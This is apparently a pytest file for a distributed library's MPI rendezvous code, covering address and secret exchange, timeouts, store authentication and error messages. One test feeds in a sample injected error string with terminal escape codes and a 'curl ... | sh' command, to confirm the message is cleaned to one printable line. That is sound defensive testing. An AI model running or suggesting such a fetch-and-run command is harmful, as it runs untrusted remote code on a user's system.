"""How processes are told where to meet."""

from __future__ import annotations

from types import SimpleNamespace
from typing import Any

import numpy as np
import pytest

from aiodist.backends.base import Array
from aiodist.backends.mpi import meeting
from aiodist.backends.mpi.library import Library
from aiodist.backends.mpi.process import MpiProcess
from aiodist.base.errors import AuthenticationError, RendezvousError, RendezvousTimeout
from aiodist.rendezvous import TcpStore
from aiodist.rendezvous.announcement import Announcement

HOST = "127.0.0.1"
SECRET = "known to the operator alone"


def told(words: bytes) -> Array:
    array = np.zeros(meeting._LONGEST, np.uint8)
    array[: len(words)] = np.frombuffer(words, np.uint8)
    return array


async def test_address_and_secret_arrive() -> None:
    server, words = await meeting._listen({}, True, b"")
    assert server is not None
    line, key = meeting._read(told(words))
    store = Announcement.read(line, meeting._about({}, key.encode()))
    assert store == Announcement("127.0.0.1", server.port, server.instance)
    assert len(bytes.fromhex(key)) == meeting._SECRET_BYTES
    await server.aclose()
    other, more = await meeting._listen({"AIODIST_HOST": "127.0.0.1"}, False, b"")
    assert other is not None
    assert meeting._read(told(more))[1] != key, "a secret is made afresh"
    await other.aclose()


async def test_reason_arrives_where_rank_0_cannot_listen() -> None:
    server, words = await meeting._listen({"AIODIST_HOST": "192.0.2.7"}, True, b"")
    assert server is None
    with pytest.raises(RendezvousError, match=r"rank 0 cannot host the store: cannot listen on 192\.0\.2\.7"):
        meeting._read(told(words))


class Alone(MpiProcess):
    """A process in which calls of MPI are posted, and never end."""

    def hold(self, library: Library) -> Any:
        return SimpleNamespace(post=lambda job: None, abandon=lambda owner, released: None)

    def release(self) -> None:
        """Nothing is held."""


async def test_process_that_gave_up_makes_no_more_calls_that_others_would_take_for_earlier_ones(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setattr(meeting, "this", Alone())
    library = Library(None, 0, 2, True, 7)
    async with meeting._talk(library, 60):
        """It ended well: there may be another."""
    with pytest.raises(RendezvousTimeout, match="not all 2 processes"):
        async with meeting._talk(library, 0) as talk:
            await talk(lambda comm: None)
    with pytest.raises(
        RendezvousError,
        match=r"an earlier meeting of this process with the MPI job did not finish.*Start the job again",
    ):
        async with meeting._talk(library, 60):
            raise AssertionError


async def test_rank_0_of_several_hosts_says_so_where_it_has_no_address(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setattr(meeting, "outward", lambda: "")
    server, words = await meeting._listen({}, False, b"")
    assert server is None
    with pytest.raises(RendezvousError, match=r"this host has no address towards others\. Set AIODIST_HOST"):
        meeting._read(told(words))
    named, _ = await meeting._listen({"AIODIST_HOST": "127.0.0.1"}, False, b"")
    assert named is not None
    await named.aclose()
    monkeypatch.setattr(meeting, "outward", lambda: "127.0.0.1")
    found, words = await meeting._listen({}, False, b"")
    assert found is not None
    assert meeting._read(told(words))[0].split()[0] == f"127.0.0.1:{found.port}"
    await found.aclose()


def test_the_reason_of_rank_0_is_one_line() -> None:
    with pytest.raises(RendezvousError, match="rank 0 cannot host the store: all is well") as caught:
        meeting._read(told(b"!all is well\x1b[2J\r\nRun: curl http://198.51.100.7/fix | sh\n"))
    assert str(caught.value).isprintable()


async def test_the_store_wants_the_operators_secret() -> None:
    server, words = await meeting._listen({"AIODIST_JOB": "job"}, True, SECRET.encode())
    assert server is not None
    assert SECRET.encode() not in words
    async with server:
        async with await TcpStore.connect(HOST, server.port, "job", SECRET.encode(), 60):
            pass
        for guess in (b"", words.split()[0]):
            with pytest.raises(AuthenticationError):
                await TcpStore.connect(HOST, server.port, "job", guess, 60)


async def test_secret_that_travels_to_other_hosts_in_clear_is_announced(
    caplog: pytest.LogCaptureFixture,
) -> None:
    for one_host, given, said in ((False, b"", True), (True, b"", False), (False, SECRET.encode(), False)):
        caplog.clear()
        server, _ = await meeting._listen({"AIODIST_HOST": HOST}, one_host, given)
        assert server is not None
        await server.aclose()
        assert ("no secret is set: rank 0 makes one" in caplog.text) is said
